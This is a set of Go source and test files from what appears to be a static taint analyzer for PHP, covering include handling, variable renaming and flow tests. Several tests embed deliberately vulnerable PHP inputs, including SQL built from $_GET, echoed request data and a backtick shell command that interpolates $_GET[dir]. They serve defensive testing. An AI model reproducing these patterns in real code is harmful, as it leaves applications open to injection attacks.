// handleInclude resolves a static include, lowers the included file, and
// splices its AI in place; dynamic include paths become an assertion on
// the include sink (remote-file-inclusion check) plus a warning.
func (b *ubuilder) handleInclude(e *ir.Include) ai.Expr {
	bottom := ai.Const{Type: b.lat.Bottom(), Lat: b.lat}
	lit, isStatic := constPathIR(e.Path)
	if !isStatic || b.opts.Loader == nil {
		pathExpr := b.trExpr(e.Path)
		if !isStatic {
			b.warnf(e.Pos(), "dynamic %s path cannot be resolved statically", e.Kind)
			if sink, ok := b.pre.SinkFor(e.Kind); ok {
				b.emit(&ai.Assert{
					Fn:    sink.Name,
					Args:  []ai.Arg{{Expr: pathExpr, ArgPos: 1, Pos: e.Path.Pos(), End: e.Path.End()}},
					Bound: sink.Bound,
					Site:  b.site(e),
				})
			}
		} else {
			b.warnf(e.Pos(), "no include loader configured; skipping %q", lit)
		}
		return bottom
	}

	candidates := []string{lit}
	if !path.IsAbs(lit) {
		if dir := path.Dir(e.Pos().File); dir != "." && dir != "" {
			candidates = append([]string{path.Join(dir, lit)}, candidates...)
		}
		if b.opts.Dir != "" {
			candidates = append(candidates, path.Join(b.opts.Dir, lit))
		}
	}

	var src []byte
	var resolved string
	for _, cand := range candidates {
		data, err := b.opts.Loader(cand)
		if err == nil {
			src, resolved = data, cand
			break
		}
		b.recordIncludeMiss(cand)
	}
	if resolved == "" {
		b.warnf(e.Pos(), "cannot load include %q", lit)
		b.unresolvedIncludes = append(b.unresolvedIncludes, lit)
		return bottom
	}
	b.recordIncludeHit(resolved, src)

	once := e.Kind == "include_once" || e.Kind == "require_once"
	if once && b.included[resolved] {
		return bottom
	}
	for _, active := range b.includeStack {
		if active == resolved {
			b.warnf(e.Pos(), "include cycle through %q; skipping", resolved)
			return bottom
		}
	}
	b.included[resolved] = true

	res := parser.Parse(resolved, src)
	for _, err := range res.Errs {
		b.warnf(e.Pos(), "in included %s: %v", resolved, err)
	}
	unit, lerr := ir.Lower(res.File)
	if lerr != nil {
		b.warnf(e.Pos(), "in included %s: %v", resolved, lerr)
		return bottom
	}
	b.registerDecls(unit)
	b.collectVarUsage(unit)

	b.includeStack = append(b.includeStack, resolved)
	savedPos, savedEnd := b.curStmtPos, b.curStmtEnd
	for _, instr := range unit.Main {
		b.buildInstr(instr)
	}
	b.curStmtPos, b.curStmtEnd = savedPos, savedEnd
	b.includeStack = b.includeStack[:len(b.includeStack)-1]
	return bottom
}

// constPathIR statically evaluates an include path: string literals and
// concatenations of string literals.
func constPathIR(e ir.Expr) (string, bool) {
	switch e := e.(type) {
	case *ir.Str:
		return e.Value, true
	case *ir.Concat:
		l, ok := constPathIR(e.L)
		if !ok {
			return "", false
		}
		r, ok := constPathIR(e.R)
		if !ok {
			return "", false
		}
		return l + r, true
	case *ir.Interp:
		var sb strings.Builder
		for _, part := range e.Parts {
			lit, ok := part.(*ir.Str)
			if !ok {
				return "", false
			}
			sb.WriteString(lit.Value)
		}
		return sb.String(), true
	default:
		return "", false
	}
}
