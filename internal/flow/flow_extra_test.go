package flow

import (
	"fmt"
	"strings"
	"testing"

	"webssari/internal/prelude"
)

func TestStaticMethodInlining(t *testing.T) {
	p := build(t, `<?php
class DB {
    function quote($s) { return addslashes($s); }
    function raw($s) { return $s; }
}
mysql_query(DB::quote($_GET['a']));
mysql_query(DB::raw($_GET['b']));`)
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (only the raw path)\n%s", len(vs), p)
	}
}

func TestAmbiguousMethodNameFallsBack(t *testing.T) {
	// Two classes define render(); resolution by bare name is ambiguous,
	// so the call degrades to join-of-args — taint still flows to echo.
	p := build(t, `<?php
class A { function render($x) { return $x; } }
class B { function render($x) { return 'safe'; } }
$obj = unknown_factory();
echo $obj->render($_GET['q']);`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (conservative join)\n%s", len(vs), p)
	}
}

func TestMethodPreludeFallback(t *testing.T) {
	// $db->query(...) with no resolvable body hits the prelude's "query"
	// sink if registered.
	pre := prelude.Default()
	pre.AddSink("query", pre.Lattice().Top(), 1)
	prog, errs := BuildSource("t.php", []byte(`<?php
$db = new Conn();
$db->query("SELECT " . $_GET['c']);`), Options{Prelude: pre})
	if len(errs) != 0 {
		t.Fatalf("errs: %v", errs)
	}
	if vs := violations(prog); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), prog)
	}
}

func TestMethodSanitizerAndSourceFallback(t *testing.T) {
	pre := prelude.Default()
	pre.AddSanitizer("clean", pre.Lattice().Bottom())
	pre.AddSource("fetch_user_input", pre.Lattice().Top())
	prog, errs := BuildSource("t.php", []byte(`<?php
echo $obj->clean($_GET['a']);
echo $obj->fetch_user_input();`), Options{Prelude: pre})
	if len(errs) != 0 {
		t.Fatalf("errs: %v", errs)
	}
	vs := violations(prog)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (source only)\n%s", len(vs), prog)
	}
}

func TestMethodWritesReceiverState(t *testing.T) {
	p := build(t, `<?php
class Holder {
    function put($v) { $this->data = $v; }
}
$h = new Holder();
$h->put($_POST['payload']);
echo $h->data;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (receiver taint must copy back)\n%s", len(vs), p)
	}
}

func TestDynamicCallJoinsArgs(t *testing.T) {
	p := build(t, `<?php
$fn = $_GET['callback'];
echo $fn($_POST['arg']);`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
	warned := false
	for _, w := range p.Warnings {
		if strings.Contains(w, "dynamic call") {
			warned = true
		}
	}
	if !warned {
		t.Fatalf("missing dynamic-call warning: %v", p.Warnings)
	}
}

func TestNewJoinsConstructorArgs(t *testing.T) {
	p := build(t, `<?php
$msg = new Message($_GET['body']);
echo $msg;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestListAssignDistributes(t *testing.T) {
	p := build(t, `<?php
list($a, $b) = explode(",", $_COOKIE['pair']);
echo $a;
echo $b;`)
	if vs := violations(p); len(vs) != 2 {
		t.Fatalf("violations = %d, want 2\n%s", len(vs), p)
	}
}

func TestVarVarWriteIgnoredWithWarning(t *testing.T) {
	p := build(t, `<?php
$n = 'target';
$$n = $_GET['a'];
echo $safe;`)
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0\n%s", len(vs), p)
	}
	warned := false
	for _, w := range p.Warnings {
		if strings.Contains(w, "variable variable") {
			warned = true
		}
	}
	if !warned {
		t.Fatalf("missing varvar warning: %v", p.Warnings)
	}
}

func TestAlternativeLoopSyntax(t *testing.T) {
	p := build(t, `<?php
while ($x): echo $_GET['a']; endwhile;
for ($i = 0; $i < 2; $i++): $y = 1; endfor;
foreach ($rows as $r): echo $r; endforeach;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestDoWhileUnrollTwo(t *testing.T) {
	src := `<?php
$a = 'safe';
do {
    echo $b;
    $b = $a;
    $a = $_GET['x'];
} while ($go);`
	p1 := build(t, src)
	if vs := violations(p1); len(vs) != 0 {
		t.Fatalf("unroll=1: violations = %d, want 0\n%s", len(vs), p1)
	}
	p2 := build(t, src, func(o *Options) { o.LoopUnroll = 3 })
	if vs := violations(p2); len(vs) == 0 {
		t.Fatalf("unroll=3: want loop-carried violation\n%s", p2)
	}
}

func TestMaxInlineDepthOption(t *testing.T) {
	p := build(t, `<?php
function wrap($x) { return inner($x); }
function inner($y) { return wrap($y); }
echo wrap($_GET['v']);`, func(o *Options) { o.MaxInlineDepth = 1 })
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestDefaultParameterValue(t *testing.T) {
	p := build(t, `<?php
function show($m = 'default') { echo $m; }
show();
show($_GET['x']);`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (default arg is safe)\n%s", len(vs), p)
	}
}

func TestConditionalFunctionDeclaration(t *testing.T) {
	p := build(t, `<?php
if ($legacy) {
    function render($m) { echo $m; }
}
render($_POST['c']);`)
	// One violated assertion; two traces (the empty declaration branch is
	// still a path split before the sink).
	vs := violations(p)
	sites := map[string]bool{}
	for _, v := range vs {
		sites[v.Assert.Site.String()] = true
	}
	if len(sites) != 1 || len(vs) != 2 {
		t.Fatalf("violations = %d over %d sites, want 2 over 1 (conditional decl collected)\n%s",
			len(vs), len(sites), p)
	}
}

func TestGlobalsWrite(t *testing.T) {
	p := build(t, `<?php
function poison() {
    $GLOBALS['cfg'] = $_GET['v'];
}
poison();
echo $cfg;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestEmptyAndIssetAreSafe(t *testing.T) {
	p := build(t, `<?php
echo isset($_GET['x']) ? 'y' : 'n';
echo empty($_GET['x']) ? 'e' : 'f';`)
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0 (boolean results)\n%s", len(vs), p)
	}
}

func TestShortTernaryFlows(t *testing.T) {
	p := build(t, `<?php
$v = $_GET['x'] ?: 'fallback';
echo $v;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (condition value flows)\n%s", len(vs), p)
	}
}

func TestArrayLiteralJoins(t *testing.T) {
	p := build(t, `<?php
$cfg = array('name' => $_GET['n'], 'safe' => 1);
echo $cfg;`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestIncludeExpressionPosition(t *testing.T) {
	// include as part of an expression; loader missing → warning, value ⊥.
	p := build(t, `<?php $ok = include 'missing.php'; echo $ok;`)
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0\n%s", len(vs), p)
	}
	if len(p.Warnings) == 0 {
		t.Fatalf("missing loader warning")
	}
}

func TestIncludeAbsoluteAndDirFallback(t *testing.T) {
	files := map[string]string{
		"/abs/lib.php":  `<?php function f1($m) { echo $m; }`,
		"base/util.php": `<?php function f2($m) { echo $m; }`,
	}
	loader := func(path string) ([]byte, error) {
		if src, ok := files[path]; ok {
			return []byte(src), nil
		}
		return nil, fmt.Errorf("no file %q", path)
	}
	p := build(t, `<?php
include '/abs/lib.php';
include 'util.php';
f1($_GET['a']);
f2($_GET['b']);`, func(o *Options) {
		o.Loader = loader
		o.Dir = "base"
	})
	if vs := violations(p); len(vs) != 2 {
		t.Fatalf("violations = %d, want 2\n%s\nwarnings: %v", len(vs), p, p.Warnings)
	}
}

func TestRequireOnceBehavesLikeIncludeOnce(t *testing.T) {
	files := map[string]string{
		"lib.php": `<?php echo $_GET['x'];`,
	}
	loader := func(path string) ([]byte, error) {
		if src, ok := files[path]; ok {
			return []byte(src), nil
		}
		return nil, fmt.Errorf("no file %q", path)
	}
	p := build(t, `<?php
require_once 'lib.php';
require_once 'lib.php';`, func(o *Options) { o.Loader = loader })
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (spliced once)\n%s", len(vs), p)
	}
}

func TestPreludeRequired(t *testing.T) {
	_, err := Build(nil, Options{})
	if err == nil {
		t.Fatalf("missing prelude must be rejected")
	}
}

func TestHeredocTaintFlow(t *testing.T) {
	src := "<?php\n$q = <<<EOT\nSELECT * WHERE id=$_GET[id]\nEOT;\nmysql_query($q);\n"
	p := build(t, src)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestLegacyGlobalVisibleInFunctions(t *testing.T) {
	// $HTTP_REFERER has a prelude type; it resolves globally even inside
	// function bodies without a 'global' declaration (register-globals
	// era behaviour).
	p := build(t, `<?php
function track() {
    mysql_query("INSERT INTO t VALUES('$HTTP_REFERER')");
}
track();`)
	if vs := violations(p); len(vs) != 1 {
		t.Fatalf("violations = %d, want 1\n%s", len(vs), p)
	}
}

func TestIntCastSanitizes(t *testing.T) {
	p := build(t, `<?php
$id = (int)$_GET['id'];
mysql_query("SELECT * FROM t WHERE id=$id");
$name = (string)$_GET['name'];
echo $name;`)
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (int cast sanitizes, string cast does not)\n%s", len(vs), p)
	}
	if vs[0].Assert.Fn != "echo" {
		t.Fatalf("violated sink = %s, want echo", vs[0].Assert.Fn)
	}
}

func TestBacktickIsCommandInjectionSink(t *testing.T) {
	p := build(t, "<?php\n$out = `ls $_GET[dir]`;\necho htmlspecialchars($out);")
	vs := violations(p)
	if len(vs) != 1 {
		t.Fatalf("violations = %d, want 1 (backtick shell execution)\n%s", len(vs), p)
	}
	if vs[0].Assert.Fn != "shell_exec" {
		t.Fatalf("violated sink = %s, want shell_exec", vs[0].Assert.Fn)
	}
}

func TestBacktickConstantIsSafe(t *testing.T) {
	p := build(t, "<?php\n$out = `uptime`;\necho htmlspecialchars($out);")
	if vs := violations(p); len(vs) != 0 {
		t.Fatalf("violations = %d, want 0\n%s", len(vs), p)
	}
}
