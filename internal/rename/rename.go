// Package rename implements the variable renaming procedure ρ of §3.3.2:
// the CBMC-style single-assignment transformation (Clarke, Kroening, Yorav)
// that the paper's xBMC1.0 adopted after the location-variable encoding of
// xBMC0.1 proved too expensive.
//
// Let α be the number of assignments made to variable v prior to program
// location i; the occurrence of v at location i is renamed to vα. After ρ,
// every renamed variable is assigned at most once, so an assignment is
// encoded with 2 variables instead of 2·|X|. No φ-nodes are needed: the
// guarded ITE constraints of Figure 5 (package constraint) account for
// branching.
//
// Because the AI is a straight-line sequence with nested nondeterministic
// branches, the renaming threads one global counter per variable through
// the commands in textual order; a read inside an else-arm may therefore
// refer to an index assigned in the then-arm — harmlessly, since that
// assignment's guard makes it an identity when the else-arm runs.
package rename

import (
	"fmt"
	"strings"

	"webssari/internal/ai"
	"webssari/internal/lattice"
)

// SSAVar is a renamed variable vα.
type SSAVar struct {
	Name string
	// Idx is α: 0 refers to the variable's initial value; assignment i
	// (1-based) defines index i.
	Idx int
}

// String renders the renamed variable as name#idx.
func (v SSAVar) String() string { return fmt.Sprintf("%s@%d", v.Name, v.Idx) }

// Expr is a renamed type expression.
type Expr interface {
	renExpr()
	String() string
}

// Const is a type constant (unchanged by renaming).
type Const struct {
	Type  lattice.Elem
	Label string
	Lat   *lattice.Lattice
}

// Ref reads a renamed variable.
type Ref struct {
	V SSAVar
}

// Join is the least upper bound of its parts.
type Join struct {
	Parts []Expr
}

func (Const) renExpr() {}
func (Ref) renExpr()   {}
func (Join) renExpr()  {}

// String implements Expr.
func (c Const) String() string {
	name := fmt.Sprintf("#%d", c.Type)
	if c.Lat != nil {
		name = c.Lat.Name(c.Type)
	}
	if c.Label != "" {
		return fmt.Sprintf("%s<%s>", name, c.Label)
	}
	return name
}

// String implements Expr.
func (r Ref) String() string { return "t(" + r.V.String() + ")" }

// String implements Expr.
func (j Join) String() string {
	parts := make([]string, len(j.Parts))
	for i, p := range j.Parts {
		parts[i] = p.String()
	}
	return "(" + strings.Join(parts, " ⊔ ") + ")"
}

// Cmd is a renamed command.
type Cmd interface {
	renCmd()
}

// Set is the single assignment t(vα) = e.
type Set struct {
	V      SSAVar
	RHS    Expr
	Origin *ai.Set
}

// Arg is one checked assertion argument.
type Arg struct {
	Expr   Expr
	ArgPos int
}

// Assert is a renamed assertion; ID numbers assertions in textual order.
type Assert struct {
	ID     int
	Args   []Arg
	Bound  lattice.Elem
	Origin *ai.Assert
}

// If is a nondeterministic branch (IDs carried over from the AI).
type If struct {
	ID     int
	Then   []Cmd
	Else   []Cmd
	Origin *ai.If
}

// Stop terminates execution.
type Stop struct {
	Origin *ai.Stop
}

func (*Set) renCmd()    {}
func (*Assert) renCmd() {}
func (*If) renCmd()     {}
func (*Stop) renCmd()   {}

// Program is the single-assignment form of an AI program.
type Program struct {
	AI   *ai.Program
	Cmds []Cmd
	// Counts is the final assignment count per variable name.
	Counts map[string]int
	// Defs maps each assigned SSA variable to its defining Set — the
	// ingredient of the counterexample analyzer's replacement sets.
	Defs map[SSAVar]*Set
	// Asserts lists the assertions in textual order, indexed by ID.
	Asserts []*Assert
}

// Rename applies ρ to an AI program.
func Rename(p *ai.Program) *Program {
	r := &renamer{
		prog: &Program{
			AI:     p,
			Counts: make(map[string]int),
			Defs:   make(map[SSAVar]*Set),
		},
	}
	r.prog.Cmds = r.cmds(p.Cmds)
	return r.prog
}

type renamer struct {
	prog *Program
}

func (r *renamer) cur(name string) SSAVar {
	return SSAVar{Name: name, Idx: r.prog.Counts[name]}
}

func (r *renamer) expr(e ai.Expr) Expr {
	switch e := e.(type) {
	case nil:
		return Const{Type: r.prog.AI.Lat.Bottom(), Lat: r.prog.AI.Lat}
	case ai.Const:
		return Const{Type: e.Type, Label: e.Label, Lat: e.Lat}
	case ai.Var:
		return Ref{V: r.cur(e.Name)}
	case ai.Join:
		parts := make([]Expr, len(e.Parts))
		for i, p := range e.Parts {
			parts[i] = r.expr(p)
		}
		return Join{Parts: parts}
	default:
		return Const{Type: r.prog.AI.Lat.Top(), Lat: r.prog.AI.Lat}
	}
}

func (r *renamer) cmds(cmds []ai.Cmd) []Cmd {
	out := make([]Cmd, 0, len(cmds))
	for _, c := range cmds {
		switch c := c.(type) {
		case *ai.Set:
			rhs := r.expr(c.RHS) // reads use the index before this write
			r.prog.Counts[c.Var]++
			set := &Set{V: r.cur(c.Var), RHS: rhs, Origin: c}
			r.prog.Defs[set.V] = set
			out = append(out, set)
		case *ai.Assert:
			a := &Assert{
				ID:     len(r.prog.Asserts),
				Bound:  c.Bound,
				Origin: c,
			}
			for _, arg := range c.Args {
				a.Args = append(a.Args, Arg{Expr: r.expr(arg.Expr), ArgPos: arg.ArgPos})
			}
			r.prog.Asserts = append(r.prog.Asserts, a)
			out = append(out, a)
		case *ai.If:
			out = append(out, &If{
				ID:     c.ID,
				Then:   r.cmds(c.Then),
				Else:   r.cmds(c.Else),
				Origin: c,
			})
		case *ai.Stop:
			out = append(out, &Stop{Origin: c})
		}
	}
	return out
}

// InitialConst returns the constant expression for a variable's initial
// value v0.
func (p *Program) InitialConst(name string) Const {
	return Const{
		Type:  p.AI.InitialType(name),
		Label: "$" + name + "@0",
		Lat:   p.AI.Lat,
	}
}

// ExprRefs returns the SSA variables read by an expression.
func ExprRefs(e Expr) []SSAVar {
	var out []SSAVar
	var walk func(Expr)
	walk = func(e Expr) {
		switch e := e.(type) {
		case Ref:
			out = append(out, e.V)
		case Join:
			for _, p := range e.Parts {
				walk(p)
			}
		}
	}
	walk(e)
	return out
}

// String renders the renamed program (Figure 6, fourth column).
func (p *Program) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "ρ(AI(%s))\n", p.AI.File)
	p.print(&b, p.Cmds, 0)
	return b.String()
}

func (p *Program) print(b *strings.Builder, cmds []Cmd, depth int) {
	ind := strings.Repeat("  ", depth)
	for _, c := range cmds {
		switch c := c.(type) {
		case *Set:
			fmt.Fprintf(b, "%st(%s) = %s;\n", ind, c.V, c.RHS)
		case *Assert:
			args := make([]string, len(c.Args))
			for i, a := range c.Args {
				args[i] = a.Expr.String()
			}
			fmt.Fprintf(b, "%sassert_%d(%s < %s);\n", ind, c.ID,
				strings.Join(args, ", "), p.AI.Lat.Name(c.Bound))
		case *If:
			fmt.Fprintf(b, "%sif b%d then\n", ind, c.ID)
			p.print(b, c.Then, depth+1)
			if len(c.Else) > 0 {
				fmt.Fprintf(b, "%selse\n", ind)
				p.print(b, c.Else, depth+1)
			}
			fmt.Fprintf(b, "%sendif\n", ind)
		case *Stop:
			fmt.Fprintf(b, "%sstop;\n", ind)
		}
	}
}
