package rename

import (
	"strings"
	"testing"

	"webssari/internal/ai"
	"webssari/internal/flow"
	"webssari/internal/prelude"
)

func buildRenamed(t *testing.T, src string) *Program {
	t.Helper()
	prog, errs := flow.BuildSource("t.php", []byte(src), flow.Options{Prelude: prelude.Default()})
	for _, err := range errs {
		t.Fatalf("build: %v", err)
	}
	return Rename(prog)
}

func TestSingleAssignmentProperty(t *testing.T) {
	r := buildRenamed(t, `<?php
$x = 1;
$x = $_GET['a'];
if ($c) { $x = 'safe'; }
echo $x;`)
	seen := make(map[SSAVar]int)
	var walk func(cmds []Cmd)
	walk = func(cmds []Cmd) {
		for _, c := range cmds {
			switch c := c.(type) {
			case *Set:
				seen[c.V]++
			case *If:
				walk(c.Then)
				walk(c.Else)
			}
		}
	}
	walk(r.Cmds)
	for v, n := range seen {
		if n != 1 {
			t.Errorf("%v assigned %d times; single-assignment violated", v, n)
		}
		if v.Idx == 0 {
			t.Errorf("%v: index 0 is reserved for the initial value", v)
		}
	}
	if r.Counts["x"] != 3 {
		t.Errorf("x assigned %d times, want 3", r.Counts["x"])
	}
}

func TestReadsSeeLatestIndex(t *testing.T) {
	r := buildRenamed(t, `<?php
$x = $_GET['a'];
$y = $x;
$x = 'reset';
$z = $x;`)
	// y1 must read x1; z1 must read x2.
	var setY, setZ *Set
	for _, c := range r.Cmds {
		if s, ok := c.(*Set); ok {
			switch s.V.Name {
			case "y":
				setY = s
			case "z":
				setZ = s
			}
		}
	}
	if setY == nil || setZ == nil {
		t.Fatalf("missing sets:\n%s", r)
	}
	if ref, ok := setY.RHS.(Ref); !ok || ref.V != (SSAVar{Name: "x", Idx: 1}) {
		t.Errorf("y reads %v, want x@1", setY.RHS)
	}
	if ref, ok := setZ.RHS.(Ref); !ok || ref.V != (SSAVar{Name: "x", Idx: 2}) {
		t.Errorf("z reads %v, want x@2", setZ.RHS)
	}
}

func TestElseReadsThenIndexHarmlessly(t *testing.T) {
	// The else-arm read of $x resolves to the then-arm's index: the paper's
	// φ-free renaming. Guarded ITE semantics (package constraint) make the
	// then-assignment an identity when the else runs.
	r := buildRenamed(t, `<?php
$x = 1;
if ($c) { $x = $_GET['a']; } else { $y = $x; }
echo $y;`)
	var inElse *Set
	var walk func(cmds []Cmd)
	walk = func(cmds []Cmd) {
		for _, c := range cmds {
			if ifc, ok := c.(*If); ok {
				for _, ec := range ifc.Else {
					if s, ok := ec.(*Set); ok && s.V.Name == "y" {
						inElse = s
					}
				}
				walk(ifc.Then)
				walk(ifc.Else)
			}
		}
	}
	walk(r.Cmds)
	if inElse == nil {
		t.Fatalf("no y assignment in else arm:\n%s", r)
	}
	ref, ok := inElse.RHS.(Ref)
	if !ok || ref.V != (SSAVar{Name: "x", Idx: 2}) {
		t.Errorf("else reads %v, want x@2 (the then-arm index)", inElse.RHS)
	}
}

func TestInitialIndexZeroForSuperglobals(t *testing.T) {
	r := buildRenamed(t, `<?php $q = $_GET['id'];`)
	set, ok := r.Cmds[0].(*Set)
	if !ok {
		t.Fatalf("cmd 0 is %T", r.Cmds[0])
	}
	ref, ok := set.RHS.(Ref)
	if !ok || ref.V != (SSAVar{Name: "_GET", Idx: 0}) {
		t.Fatalf("rhs = %v, want _GET@0", set.RHS)
	}
	c := r.InitialConst("_GET")
	if c.Type != r.AI.Lat.Top() {
		t.Fatalf("initial _GET type should be tainted")
	}
}

func TestDefsMapComplete(t *testing.T) {
	r := buildRenamed(t, `<?php
$a = $_GET['x'];
$b = $a;
$c = $b . 'suffix';
echo $c;`)
	for _, name := range []string{"a", "b", "c"} {
		v := SSAVar{Name: name, Idx: 1}
		if _, ok := r.Defs[v]; !ok {
			t.Errorf("Defs missing %v", v)
		}
	}
	// The single-var chain b1 = a1 is what replacement sets walk.
	def := r.Defs[SSAVar{Name: "b", Idx: 1}]
	if ref, ok := def.RHS.(Ref); !ok || ref.V.Name != "a" {
		t.Errorf("b's def should read a, got %v", def.RHS)
	}
}

func TestAssertIDsSequential(t *testing.T) {
	r := buildRenamed(t, `<?php
echo $_GET['a'];
if ($c) { echo $_GET['b']; }
mysql_query($_POST['q']);`)
	if len(r.Asserts) != 3 {
		t.Fatalf("asserts = %d, want 3", len(r.Asserts))
	}
	for i, a := range r.Asserts {
		if a.ID != i {
			t.Errorf("assert %d has ID %d", i, a.ID)
		}
	}
}

func TestErasureRecoversAI(t *testing.T) {
	// Dropping indices from the renamed program must recover the AI's
	// command structure exactly.
	src := `<?php
$x = $_GET['a'];
if ($c) { $x = htmlspecialchars($x); } else { $y = $x . 'z'; }
echo $x, $y;`
	prog, errs := flow.BuildSource("t.php", []byte(src), flow.Options{Prelude: prelude.Default()})
	if len(errs) != 0 {
		t.Fatalf("errs: %v", errs)
	}
	r := Rename(prog)

	var erase func(cmds []Cmd) []string
	var eraseExpr func(e Expr) string
	eraseExpr = func(e Expr) string {
		switch e := e.(type) {
		case Const:
			return e.String()
		case Ref:
			return "t($" + e.V.Name + ")"
		case Join:
			parts := make([]string, len(e.Parts))
			for i, p := range e.Parts {
				parts[i] = eraseExpr(p)
			}
			return "(" + strings.Join(parts, " ⊔ ") + ")"
		}
		return "?"
	}
	erase = func(cmds []Cmd) []string {
		var out []string
		for _, c := range cmds {
			switch c := c.(type) {
			case *Set:
				out = append(out, "set "+c.V.Name+" "+eraseExpr(c.RHS))
			case *Assert:
				out = append(out, "assert")
			case *If:
				out = append(out, "if(")
				out = append(out, erase(c.Then)...)
				out = append(out, ")(")
				out = append(out, erase(c.Else)...)
				out = append(out, ")")
			case *Stop:
				out = append(out, "stop")
			}
		}
		return out
	}

	var aiDump func(cmds []ai.Cmd) []string
	var aiExprDump func(e ai.Expr) string
	aiExprDump = func(e ai.Expr) string {
		switch e := e.(type) {
		case ai.Const:
			return e.String()
		case ai.Var:
			return "t($" + e.Name + ")"
		case ai.Join:
			parts := make([]string, len(e.Parts))
			for i, p := range e.Parts {
				parts[i] = aiExprDump(p)
			}
			return "(" + strings.Join(parts, " ⊔ ") + ")"
		}
		return "?"
	}
	aiDump = func(cmds []ai.Cmd) []string {
		var out []string
		for _, c := range cmds {
			switch c := c.(type) {
			case *ai.Set:
				out = append(out, "set "+c.Var+" "+aiExprDump(c.RHS))
			case *ai.Assert:
				out = append(out, "assert")
			case *ai.If:
				out = append(out, "if(")
				out = append(out, aiDump(c.Then)...)
				out = append(out, ")(")
				out = append(out, aiDump(c.Else)...)
				out = append(out, ")")
			case *ai.Stop:
				out = append(out, "stop")
			}
		}
		return out
	}

	got := strings.Join(erase(r.Cmds), "\n")
	want := strings.Join(aiDump(prog.Cmds), "\n")
	if got != want {
		t.Fatalf("erasure mismatch:\ngot:\n%s\nwant:\n%s", got, want)
	}
}

func TestExprRefs(t *testing.T) {
	e := Join{Parts: []Expr{
		Ref{V: SSAVar{Name: "a", Idx: 1}},
		Const{},
		Join{Parts: []Expr{Ref{V: SSAVar{Name: "b", Idx: 0}}}},
	}}
	refs := ExprRefs(e)
	if len(refs) != 2 || refs[0].Name != "a" || refs[1].Name != "b" {
		t.Fatalf("refs = %v", refs)
	}
}

func TestStringRendering(t *testing.T) {
	r := buildRenamed(t, `<?php $x = $_GET['a']; echo $x;`)
	s := r.String()
	for _, frag := range []string{"x@1", "_GET@0", "assert_0"} {
		if !strings.Contains(s, frag) {
			t.Errorf("rendering missing %q:\n%s", frag, s)
		}
	}
}

func TestExprStringForms(t *testing.T) {
	r := buildRenamed(t, `<?php $x = $_GET['a'] . 'suffix'; echo $x;`)
	set, ok := r.Cmds[0].(*Set)
	if !ok {
		t.Fatalf("cmd 0 is %T", r.Cmds[0])
	}
	if got := set.RHS.String(); got != "(t(_GET@0) ⊔ untainted)" {
		t.Fatalf("RHS string = %q", got)
	}
	if got := set.V.String(); got != "x@1" {
		t.Fatalf("SSA var string = %q", got)
	}
	c := r.InitialConst("_GET")
	if got := c.String(); got != "tainted<$_GET@0>" {
		t.Fatalf("initial const string = %q", got)
	}
}

func TestStopRenamed(t *testing.T) {
	r := buildRenamed(t, `<?php $x = 1; exit; $y = 2;`)
	found := false
	for _, c := range r.Cmds {
		if _, ok := c.(*Stop); ok {
			found = true
		}
	}
	if !found {
		t.Fatalf("stop lost in renaming:\n%s", r)
	}
	if !strings.Contains(r.String(), "stop;") {
		t.Fatalf("stop missing from rendering")
	}
}
