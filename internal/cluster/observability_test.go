package cluster

// Distributed-observability tests: the W3C traceparent golden path from
// the typed client through the front daemon and coordinator onto worker
// daemons, the stitched per-job trace document, and the trace_id every
// structured log line carries on both sides of the dispatch hop.

import (
	"bytes"
	"context"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"webssari/client"
	"webssari/internal/service"
	"webssari/internal/telemetry"
)

// syncBuffer is a goroutine-safe log sink: job goroutines on both
// daemons write concurrently with the test's reads.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

func newTestLogger(t *testing.T, sink *syncBuffer) *telemetry.Logger {
	t.Helper()
	l, err := telemetry.NewLogger(sink, slog.LevelDebug, "json", 32)
	if err != nil {
		t.Fatal(err)
	}
	return l
}

// TestTraceparentPropagation is the golden propagation test: a client
// submits a directory job carrying a traceparent, and the same trace ID
// must surface (a) in the submit/status responses, (b) in the
// traceparent header every worker receives — with a fresh per-hop span
// ID, (c) on the spans of the stitched trace document, and (d) in the
// structured logs of coordinator and worker alike.
func TestTraceparentPropagation(t *testing.T) {
	dir := writeCorpus(t)

	var coordLog, workerLog syncBuffer

	// Worker daemon behind a header-capturing shim.
	var hdrMu sync.Mutex
	var workerHeaders []string
	wsvc := service.New(service.Config{
		Telemetry: telemetry.New(),
		Logger:    newTestLogger(t, &workerLog),
	})
	wh := wsvc.Handler()
